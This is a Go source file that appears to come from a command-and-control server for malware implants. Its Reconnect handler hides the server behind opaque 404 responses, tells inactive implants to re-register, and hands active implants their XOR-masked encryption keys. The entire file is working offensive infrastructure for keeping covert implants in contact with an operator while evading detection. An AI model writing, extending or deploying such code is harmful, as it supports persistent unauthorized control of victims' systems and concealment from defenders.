package handlers

import (
	"net/http"

	"github.com/duskrelay/beaconsrv/envelope"
	"github.com/duskrelay/beaconsrv/reqauth"
)

// Reconnect handles OPTIONS reconnect_path (spec §4.3 reconnect policy,
// scenario S2). A known-but-inactive implant gets a distinguishable 410 so
// it knows to re-run the registration handshake rather than retry
// indefinitely; everything else collapses to the usual opaque 404.
func Reconnect(deps *Deps) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		res, rec, found := authenticate(r, deps)
		if !found {
			notFound(w)
			return
		}

		if !rec.IsActive() {
			writeJSON(w, http.StatusGone, map[string]string{
				"status":  "inactive",
				"message": "Implant is inactive, please re-register",
			})
			return
		}

		masked, err := envelope.MaskedKeyB64(rec.EncryptionKey(), deps.XORKey)
		if err != nil {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]string{"id": rec.ID(), "k": masked})
	}
}
